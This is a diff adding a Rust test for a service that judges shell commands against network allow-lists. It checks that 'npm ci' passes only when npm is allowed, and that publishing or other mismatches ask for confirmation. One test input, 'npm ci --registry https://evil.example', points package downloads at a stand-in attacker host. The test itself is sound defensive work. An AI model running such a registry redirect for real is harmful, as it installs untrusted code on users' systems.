@@ -305,3 +305,21 @@ fn what_cannot_be_held_back_is_asked_by_its_words() {
         assert_ne!(answer["run"]["way"], "stage", "{line}: {answer}");
     }
 }
+
+#[test]
+fn allowed_packages_are_fetched_without_a_question_and_their_writes_are_held_back() {
+    let run = |allow: &str, profile: &str, line: &str| {
+        let scene = Scene::with(profile, &format!("[network]\nallow = [{allow}]\n"));
+        let judged = scene.service.post("/v1/judge", scene.body(line)).send().json();
+        let network = &judged["run"]["network"];
+        (judged["run"]["status"].clone(), judged["run"]["way"].clone(), network["access"].clone())
+    };
+    let said = |status: &str, way: &str, access: &str| (json!(status), json!(way), json!(access));
+    let asked = said("requires_confirmation", "act", "hosts");
+    assert_eq!(run("", "workspace", "npm ci"), asked);
+    assert_eq!(run("'npm'", "workspace", "npm ci"), said("approved", "stage", "hosts"));
+    assert_eq!(run("'npm'", "workspace", "npm publish"), asked);
+    assert_eq!(run("'npm'", "workspace", "npm ci --registry https://evil.example"), asked);
+    assert_eq!(run("'npm'", "desktop", "npm ci"), asked);
+    assert_eq!(run("'pypi'", "workspace", "npm ci"), asked);
+}
